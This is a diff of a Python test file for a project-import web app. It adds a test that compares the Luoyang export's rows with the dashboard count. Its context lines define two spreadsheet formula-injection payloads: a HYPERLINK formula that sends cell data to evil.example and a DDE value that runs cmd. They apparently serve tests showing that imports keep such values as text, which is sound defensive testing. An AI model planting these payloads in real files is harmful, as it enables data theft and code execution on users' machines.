@@ -13,11 +13,12 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import select
 
+from app.demo import DEMO_PASSWORD, seed
 from app.extensions import db
 from app.jobs import imports as import_jobs
 from app.models import Job, Project
 from tests.helpers import Cast, import_row, import_workbook, project_payload
-from tests.web import signed_in
+from tests.web import csrf_token, signed_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 CALC = "-2+3+cmd|' /C calc'!A0"
@@ -120,3 +121,20 @@ def test_an_import_keeps_formula_like_names_as_text_and_says_so(clean_app, cast)
     assert [(n["row"], n["column"]) for n in job.notes] == [(2, "项目名称")]
     page = signed_in(clean_app, "sz_miit").get(f"/imports/{job_id}").get_data(as_text=True)
     assert "按文本保存" in page and "项目名称" in page
+
+
+def test_luoyangs_export_has_the_rows_its_dashboard_counts(clean_app):
+    """The probe's case: the demo's Luoyang export held 21 rows (rejected and returned ones
+    too) against the dashboard's 16."""
+    with clean_app.app_context():
+        seed()
+        db.session.remove()
+    client = clean_app.test_client()
+    client.post("/login", data={"username": "luoyang-ndrc", "password": DEMO_PASSWORD,
+                                "csrf_token": csrf_token(client)})
+    page = client.get("/dashboard").get_data(as_text=True)
+    shown = int(re.search(r'<span class="tile__value">(\d+)</span>', page).group(1))
+    rows = list(load_workbook(io.BytesIO(client.get(export_link(page, "xlsx")).data))
+                .worksheets[0].iter_rows(values_only=True))
+    assert len(rows) - 3 == shown  # less what it covers, the header and the totals
+    assert {r[11] for r in rows[2:-1]}.isdisjoint({"退回补正", "不予入库", "已撤回", "草稿"})
